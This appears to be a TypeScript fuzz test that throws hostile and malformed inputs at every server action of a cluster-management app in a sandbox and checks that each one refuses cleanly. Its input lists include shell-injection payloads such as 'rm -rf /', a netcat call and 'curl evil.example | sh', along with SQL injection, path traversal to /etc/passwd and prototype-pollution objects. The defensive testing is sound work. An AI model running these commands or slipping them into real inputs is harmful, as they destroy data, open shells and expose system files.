// Every server action, fuzzed (issue 5, hardening). The actions are enumerated from lib/actions (every export
// of every 'use server' file), so a new one cannot be left out, and each is called with fast-check inputs:
// random and hostile strings (shell metacharacters, path traversal, 100k characters, RTL and zero-width
// characters, NUL, lone surrogates), wrong types (numbers, bigints, dates, maps, arrays, null, nested objects,
// prototype-pollution keys) and structurally valid inputs with one field made bad. Every call must resolve to a
// typed result (ok only for reads; otherwise a code of DOMAIN_ERROR_CODES with a message), never throw, never
// reach defineAction's catch-all for bugs, and change nothing: Compute resources, the sandbox's faults, both
// clusters' etcd members, the journal and the accounts are compared before and after each action; the audit
// log may only gain refusals. Reproduce a run with FUZZ_SEED=<seed printed below>; FUZZ_RUNS sets the runs per arbitrary.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest';
import { closeGceClients, createGceClients } from '@/lib/adapters/gce/gce-compute';
import { DOMAIN_ERROR_CODES } from '@/lib/core/errors';
import { clusterId } from '@/lib/core/topology';
import { container } from '@/lib/server/container';
import { createUserAction } from '@/lib/actions/create-user-action';
import { setCallerResolverForTests } from '@/lib/server/auth/caller';
import { listUsers } from '@/lib/server/services/users';
import { journalSnapshot, PROD, STAGING, warmUpAccess, worldSnapshot } from './support';
import { restoreActionEnv } from './action-env';

// Before any import is evaluated: the actions' container reads process.env (action-env.ts).
const { dataDir, savedEnv } = await vi.hoisted(async () =>
  (await import('./action-env')).pointActionsAtSandbox('quorum-fuzz-'),
);

const SEED = Number(process.env.FUZZ_SEED ?? Math.floor(Math.random() * 2 ** 31));
const RUNS = Number(process.env.FUZZ_RUNS ?? 60);

// --- The actions ------------------------------------------------------------------------------------------------

type Action = { name: string; file: string; call: (...args: unknown[]) => Promise<unknown> };

const ACTIONS_DIR = path.resolve('lib/actions');
const actionFiles = readdirSync(ACTIONS_DIR)
  .filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'))
  .sort();
const isUseServer = (file: string) =>
  /^\s*(?:\/\/[^\n]*\n\s*)*['"]use server['"]/.test(readFileSync(path.join(ACTIONS_DIR, file), 'utf8'));
const serverFiles = actionFiles.filter(isUseServer);
const ACTIONS: Action[] = [];
for (const file of serverFiles) {
  const mod = (await import(/* @vite-ignore */ path.join(ACTIONS_DIR, file))) as Record<string, unknown>;
  for (const [name, value] of Object.entries(mod)) {
    if (typeof value === 'function') ACTIONS.push({ name, file, call: value as Action['call'] });
  }
}
ACTIONS.sort((a, b) => a.name.localeCompare(b.name));

/** Reads return ok for a valid input; everything else only refuses here (the shapes below are never runnable). */
const isRead = (name: string) => /^(read|preview)[A-Z]/.test(name);

const PROD_ID = clusterId(PROD);
const EXISTING_USER = 'existing@example.test';

/**
 * One well-formed input per action that must still not change anything when called: a zone outside the
 * cluster's region, a confirmation that does not match, an unknown operation or zone. The fuzz makes one field
 * of it bad at a time. A new action needs an entry here; the first test says so.
 */
const SHAPES: Record<string, unknown> = {
  applyChaosAction: {
    clusterId: PROD_ID,
    request: {
      scope: 'replica',
      name: 'prod-master-zzz',
      zone: 'us-central1-b',
      action: { kind: 'kill-etcd', etcd: 'main' },
    },
  },
  cancelOperationAction: { operationId: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11' },
  // A short password and an email that has an account already (made in beforeAll): no single bad field makes it runnable.
  createUserAction: { email: EXISTING_USER, name: 'fuzz', role: 'viewer', password: 'short' },
  createClusterAction: {
    project: 'sandbox-project',
    masterName: 'fuzz-master',
    zone: 'europe-west9-z',
    multizone: true,
    confirm: 'not-the-name',
  },
  previewCreateClusterAction: {
    project: 'sandbox-project',
    masterName: 'fuzz-master',
    zone: 'europe-west9-z',
    multizone: true,
  },
  previewPlanAction: { clusterId: PROD_ID, intent: { kind: 'add-replica', zone: 'us-central1-b' } },
  readBackupGateFailureAction: { clusterId: PROD_ID, operationId: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11' },
  readChaosStateAction: {},
  readStockoutOfferAction: { clusterId: PROD_ID, operationId: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11' },
  setUserRoleAction: { userId: 'no-such-user', role: 'viewer' },
  // No account has that id: whatever single field is made bad, nothing is disabled or deleted.
  changeAccountAction: { userId: 'no-such-user', change: 'disable' },
  startOperationAction: {
    clusterId: PROD_ID,
    intent: { kind: 'add-replica', zone: 'us-central1-b' },
    confirm: 'not-prod-master',
  },
  // Two bad fields (not http(s), no such format): no single field made good makes it addable.
  addWebhookAction: { name: 'fuzz', url: 'ftp://receiver.invalid/hook', format: 'pagerduty', enabled: true },
  // No webhook has that id: nothing is deleted, paused or posted to.
  deleteWebhookAction: { id: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11' },
  setWebhookEnabledAction: { id: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11', enabled: false },
  sendTestNotificationAction: { id: '7f1c1e2a-8b5e-4f0e-9a57-1f0d2c9b0a11' },
  // Made-up fingerprints: whatever single field is made bad, no pin matches them.
  trustHostKeyAction: {
    clusterId: PROD_ID,
    replica: 'prod-master-zzz',
    zone: 'us-central1-b',
    pinnedFingerprint: `SHA256:${'A'.repeat(43)}`,
    presentedFingerprint: `SHA256:${'B'.repeat(43)}`,
  },
};

// --- Inputs -----------------------------------------------------------------------------------------------------

const SHELL = [
  '$(rm -rf /)',
  '`reboot`',
  '; rm -rf / ;',
  '| nc evil.example 4444',
  '&& curl evil.example | sh',
  '$IFS$9',
  '\n/bin/sh -i',
  "'; DROP TABLE operations; --",
  '${7*7}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '--force-new-cluster',
  '-rf',
];
const TRAVERSAL = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '....//....//etc/passwd',
  '/etc/passwd',
  'file:///etc/passwd',
  'sandbox-project~europe-west1~../../etc',
  'prod-master/../staging-master',
];
const UNICODE = [
  '\u202Eretsam-dorp',
  'prod\u200Bmaster',
  'prod-master\u0000',
  '\u0000',
  '\uFEFFprod-master',
  'ｐｒｏｄ-master',
  'prod-maſter',
  'İstanbul',
  '\uD800',
  '😀🔥',
  'z̷̢͈a̵l̸g̶o',
  '\u0085\u2028\u2029',
];
const NEAR_VALID = [
  PROD_ID,
  clusterId(STAGING),
  `${PROD_ID}~x`,
  PROD_ID.toUpperCase(),
  'prod-master',
  'europe-west1-b',
  'us-central1-b',
  'add-replica',
  'scale',
  'replica',
  'zone',
  '',
];
const HUGE = ['a', '-', '~', '😀', '../', '$(', '\u0000'].map((c) => c.repeat(100_000));

const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme', maxLength: 50 }),
  fc.string({ unit: 'binary', maxLength: 50 }),
  fc.constantFrom(...SHELL, ...TRAVERSAL, ...UNICODE, ...NEAR_VALID),
  fc.tuple(fc.constantFrom(...NEAR_VALID), fc.constantFrom(...SHELL, ...TRAVERSAL, ...UNICODE)).map(([a, b]) => a + b),
  fc.constantFrom(...HUGE),
);

/** Objects whose own keys try to reach the prototype: what JSON.parse (and React's reply decoder) can hand over. */
const pollution: fc.Arbitrary<unknown> = fc
  .constantFrom(
    '{"__proto__":{"polluted":"yes","role":"admin","ok":true}}',
    '{"constructor":{"prototype":{"polluted":"yes"}}}',
    '{"clusterId":"sandbox-project~europe-west1~prod-master","__proto__":{"intent":{"kind":"scale","replicas":5}}}',
    '{"__proto__":{"confirm":"prod-master"},"intent":{"__proto__":{"kind":"add-replica"}}}',
  )
  .map((json) => JSON.parse(json) as unknown);

const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, undefined, NaN, Infinity, -0, true, false, 0, -1, 2 ** 53, Number.MIN_VALUE),
  fc.integer(),
  fc.double(),
  fc.bigInt(),
  fc.date({ noInvalidDate: false }),
  fc.array(hostileString, { maxLength: 5 }),
  fc.constant(new Map([['clusterId', PROD_ID]])),
  fc.constant(new Set([PROD_ID])),
  pollution,
  fc.anything({
    maxDepth: 3,
    withBigInt: true,
    withDate: true,
    withMap: true,
    withSet: true,
    withNullPrototype: true,
    withTypedArray: true,
    withSparseArray: true,
  }),
);

/** Anything that could stand in place of a field's value. */
const badValue: fc.Arbitrary<unknown> = fc.oneof(hostileString, wrongType);

type Path = Array<string | number>;

function leafPaths(value: unknown, at: Path = []): Path[] {
  if (value === null || typeof value !== 'object') return [at];
  const entries = Object.entries(value as Record<string, unknown>);
  return [at, ...entries.flatMap(([k, v]) => leafPaths(v, [...at, k]))];
}

/** `shape` with the value at `at` replaced by `value` (or deleted), the rest as it was. */
function withField(shape: unknown, at: Path, value: unknown, drop: boolean): unknown {
  if (at.length === 0) return value;
  const copy = structuredClone(shape) as Record<string | number, unknown>;
  let node = copy;
  for (const key of at.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = at[at.length - 1] ?? '';
  if (drop) delete node[last];
  else node[last] = value;
  return copy;
}

/** Well-formed inputs with one field made bad (wrong value, wrong type, missing), an extra field, or a polluting key. */
function nearlyValid(shape: unknown): fc.Arbitrary<unknown> {
  const paths = leafPaths(shape).filter((p) => p.length > 0);
  const oneBad =
    paths.length === 0
      ? fc.constant(shape)
      : fc
          .tuple(fc.constantFrom(...paths), badValue, fc.integer({ min: 0, max: 9 }))
          .map(([at, value, n]) => withField(shape, at, value, n < 2));
  const extraField = fc
    .tuple(hostileString, badValue)
    .map(([key, value]) => ({ ...(shape as object), [key.slice(0, 64)]: value }));
  const polluted = pollution.map(
    (p) =>
      JSON.parse(
        JSON.stringify({ ...(shape as object), ...(p as object) }).replace(/^\{/, '{"__proto__":{"polluted":"yes"},'),
      ) as unknown,
  );
  return fc.oneof(
    { arbitrary: oneBad, weight: 4 },
    { arbitrary: extraField, weight: 1 },
    { arbitrary: polluted, weight: 1 },
  );
}

// --- What every call must return --------------------------------------------------------------------------------

const codes: readonly string[] = DOMAIN_ERROR_CODES;

/** A typed result: `{ ok: true, data }` for a read, else `{ ok: false, code, message, fieldErrors? }`. Throws (with the reason) otherwise. */
function checkResult(action: Action, result: unknown): void {
  if (result === null || typeof result !== 'object')
    throw new Error(`${action.name} returned ${typeof result}, not a Result`);
  const r = result as Record<string, unknown>;
  if (r.ok === true) {
    if (!isRead(action.name))
      throw new Error(`${action.name} (not a read) succeeded: ${JSON.stringify(r).slice(0, 300)}`);
    return;
  }
  if (r.ok !== false) throw new Error(`${action.name} returned no ok flag: ${JSON.stringify(r).slice(0, 300)}`);
  if (typeof r.code !== 'string' || !codes.includes(r.code))
    throw new Error(`${action.name} returned code ${String(r.code)}, not a domain error code`);
  if (typeof r.message !== 'string' || r.message.trim() === '' || r.message.length > 2_000)
    throw new Error(`${action.name} returned a bad message (${typeof r.message})`);
  if (/\n\s+at \S+|\[object Object\]/.test(r.message))
    throw new Error(`${action.name} leaked internals in its message: ${r.message.slice(0, 300)}`);
  if (r.fieldErrors !== undefined) {
    const fe = r.fieldErrors as Record<string, unknown>;
    if (
      typeof fe !== 'object' ||
      fe === null ||
      !Object.values(fe).every((v) => Array.isArray(v) && v.every((m) => typeof m === 'string'))
    ) {
      throw new Error(`${action.name} returned malformed fieldErrors`);
    }
  }
}

// --- Setup ------------------------------------------------------------------------------------------------------

const gce = createGceClients({ kind: 'sandbox', port: inject('sandboxPort') });
const bugs: string[] = [];
let calls = 0;

beforeAll(async () => {
  expect(container().env.SANDBOX_PORT).toBe(inject('sandboxPort'));
  expect(container().env.QUORUM_DATA_DIR).toBe(dataDir);
  // This data dir holds a new key: its publication in the masters' metadata is part of the baseline.
  await warmUpAccess(container());
  // A fresh user per call: the per-user rate limit on mutations would otherwise answer most of the fuzz with
  // RateLimited before its input is ever parsed.
  setCallerResolverForTests(async () => ({
    userId: `fuzz-${calls}`,
    email: 'fuzz@example.test',
    name: 'fuzz',
    role: 'admin',
    source: 'test',
  }));
  // defineAction logs `[action <name>]` before it turns an unexpected exception (a bug) into a generic message.
  const original = console.error.bind(console);
  vi.spyOn(console, 'error').mockImplementation((...args: unknown[]) => {
    if (typeof args[0] === 'string' && args[0].startsWith('[action '))
      bugs.push(`${args[0]} ${String(args[1]).slice(0, 300)}`);
    else original(...args);
  });
  const made = await createUserAction({
    email: EXISTING_USER,
    name: 'Existing',
    role: 'viewer',
    password: 'a long enough password',
  });
  expect(made.ok, JSON.stringify(made)).toBe(true);
  console.log(`actions-fuzz: seed ${SEED} (FUZZ_SEED=${SEED} to reproduce), ${RUNS} runs per arbitrary`);
});

afterAll(async () => {
  setCallerResolverForTests(undefined);
  vi.restoreAllMocks();
  await closeGceClients(gce);
  await container().close();
  restoreActionEnv({ dataDir, savedEnv });
});

// --- The tests --------------------------------------------------------------------------------------------------

describe('every server action, fuzzed', () => {
  it('finds every action in lib/actions, and each has a well-formed input to fuzz from', () => {
    console.log(`actions-fuzz: ${ACTIONS.length} actions: ${ACTIONS.map((a) => `${a.name} (${a.file})`).join(', ')}`);
    expect(ACTIONS.length).toBeGreaterThan(0);
    // Every *-action.ts but the wrapper they share is a 'use server' file (or Next would not serve it as an action).
    for (const f of actionFiles.filter((f) => f.endsWith('-action.ts') && f !== 'define-action.ts'))
      expect(serverFiles, `${f} is a 'use server' file`).toContain(f);
    const missing = ACTIONS.map((a) => a.name).filter((n) => !(n in SHAPES));
    expect(missing, 'add a well-formed, never-runnable input for each new action to SHAPES').toEqual([]);
  });

  const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).sort();

  it.each(ACTIONS.map((a) => [a.name, a] as const))(
    '%s returns typed results only and changes nothing',
    { timeout: 120_000 },
    async (_name, action) => {
      const c = container();
      const [world, journal, users] = [await worldSnapshot(c, gce), await journalSnapshot(c.store), await listUsers()];
      const started = Date.now();
      const bugsBefore = bugs.length;

      const call = async (input: unknown, withNoArgument = false): Promise<void> => {
        calls += 1;
        let result: unknown;
        try {
          result = withNoArgument ? await action.call() : await action.call(input);
        } catch (error) {
          throw new Error(`${action.name} threw: ${error instanceof Error ? error.message : String(error)}`);
        }
        checkResult(action, result);
      };

      await call(undefined, true);
      await call(SHAPES[action.name]);
      const arbitraries: Array<[string, fc.Arbitrary<unknown>]> = [
        ['hostile strings', hostileString],
        ['wrong types', wrongType],
        ['one bad field', nearlyValid(SHAPES[action.name] ?? {})],
      ];
      for (const [what, arbitrary] of arbitraries) {
        await fc
          .assert(
            fc.asyncProperty(arbitrary, async (input) => call(input)),
            { numRuns: RUNS, seed: SEED, verbose: 1 },
          )
          .catch((error: unknown) => {
            throw new Error(
              `${action.name}, ${what} (FUZZ_SEED=${SEED}): ${error instanceof Error ? error.message : String(error)}`,
            );
          });
      }
      const ms = Date.now() - started;

      expect(bugs.slice(bugsBefore), 'inputs that reached defineAction catch-all for bugs').toEqual([]);
      expect(await worldSnapshot(c, gce)).toEqual(world);
      const after = await journalSnapshot(c.store);
      expect(after.operations).toEqual(journal.operations);
      expect(after.locks).toEqual(journal.locks);
      expect(after.unfinished).toEqual(journal.unfinished);
      expect(await listUsers()).toEqual(users);
      const added = after.audit.filter((a) => !journal.audit.some((b) => b.id === a.id));
      expect(added.filter((a) => a.outcome !== 'refused')).toEqual([]);
      expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeBefore);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      console.log(`actions-fuzz: ${action.name}: ${2 + 3 * RUNS} calls in ${ms} ms, ${added.length} refusals audited`);
    },
  );
});
